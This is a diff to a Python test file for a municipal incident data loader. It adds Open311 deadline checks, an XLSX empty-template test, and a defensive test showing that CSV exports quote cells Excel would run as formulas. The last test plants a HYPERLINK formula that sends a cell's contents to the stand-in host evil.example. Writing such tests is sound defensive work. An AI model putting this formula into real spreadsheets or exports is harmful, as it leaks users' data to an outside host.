@@ -18,6 +18,7 @@ from loaders.__main__ import main
 from loaders.engine import Options, load_file
 from loaders.export import EXPORTS, ExportError, WhereError, export_kind, parse_where
 from loaders.kinds import KINDS
+from loaders.sniff import EmptyFileError
 from store.db import make_engine
 from store.settings import get_settings
 from tests.test_load import ORDER, files  # noqa: F401  (the demo street as files)
@@ -269,9 +270,9 @@ def test_reloading_an_export_into_its_own_store_changes_nothing(
 def test_open311_carries_what_georeport_v2_has(
     source: Engine, fresh_engine: Engine, tmp_path: Path
 ) -> None:
-    """Open311 holds id, category, title, description, address, time and place: loaded
-    into a fresh store those come back exactly (deadline derived from the category as the
-    first load did); source, severity, occurrence time and reporter do not travel."""
+    """Open311 holds id, category, title, description, address, time, deadline
+    (``expected_datetime``) and place: loaded into a fresh store those come back exactly;
+    source, severity, occurrence time and reporter do not travel."""
     paths = _export_all(source, "gpkg", tmp_path)
     _load_fresh(fresh_engine, {k: paths[k] for k in LOAD_ORDER[:4]}, "gpkg")
     load_file(fresh_engine, "buildings", paths["buildings"], Options())
@@ -281,6 +282,7 @@ def test_open311_carries_what_georeport_v2_has(
     assert len(doc) == done.rows == 1997
     first = doc[0]
     assert first["requested_datetime"].endswith("+08:00")
+    assert first["expected_datetime"].endswith("+08:00")
     assert first["status"] in ("open", "closed")
     assert {"service_request_id", "service_code", "service_name", "lat", "long"} <= set(first)
     report = load_file(fresh_engine, "incidents", path, Options())
@@ -398,9 +400,47 @@ def test_an_empty_result_is_a_valid_empty_file(source: Engine, tmp_path: Path, f
         assert json.loads(path.read_text()) == []
     elif fmt == "csv":
         assert path.read_text(encoding="utf-8-sig").startswith("code,category_code,")
+    elif fmt == "xlsx":  # the header stays, so the file is a template to fill in
+        header = pyogrio.read_dataframe(path, read_geometry=False)
+        assert header.iloc[0].tolist()[:3] == ["code", "category_code", "source"]
+        with pytest.raises(EmptyFileError, match="no data rows"):
+            load_file(source, "incidents", path, Options())
     else:
         info = pyogrio.read_info(path)
         assert info["features"] == 0
+
+
+def test_csv_cells_excel_would_run_as_formulas_are_quoted_and_load_back_exactly(
+    files,  # noqa: F811
+    fresh_engine: Engine,
+    tmp_path: Path,
+) -> None:
+    folder = files["streets"].parent
+    for kind, f in ORDER:
+        load_file(fresh_engine, kind, folder / f, Options())
+    evil = {
+        "description": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "address": "+86 138 0000 0000",
+        "title": "@SUM(1+1)",
+    }
+    code = files["incidents_frame"].code.iloc[0]
+    with fresh_engine.begin() as conn:
+        conn.execute(
+            text("UPDATE incident SET description = :d, address = :a, title = :t WHERE code = :c"),
+            {"d": evil["description"], "a": evil["address"], "t": evil["title"], "c": code},
+        )
+    path = tmp_path / "incidents.csv"
+    export_kind(fresh_engine, "incidents", path, fmt="csv", where=[f"code={code}"])
+    row = pd.read_csv(path, dtype=str, encoding="utf-8-sig").iloc[0]
+    for field, value in evil.items():
+        assert row[field] == "'" + value
+    with fresh_engine.begin() as conn:
+        conn.execute(text("UPDATE incident SET description = NULL WHERE code = :c"), {"c": code})
+    report = load_file(fresh_engine, "incidents", path, Options())
+    assert report.updated == 1, report.summary()
+    got = "SELECT description, address, title FROM incident WHERE code = :c"
+    with fresh_engine.connect() as conn:
+        assert tuple(conn.execute(text(got), {"c": code}).one()) == tuple(evil.values())
 
 
 def test_open311_is_for_incidents_only(source: Engine, tmp_path: Path) -> None:
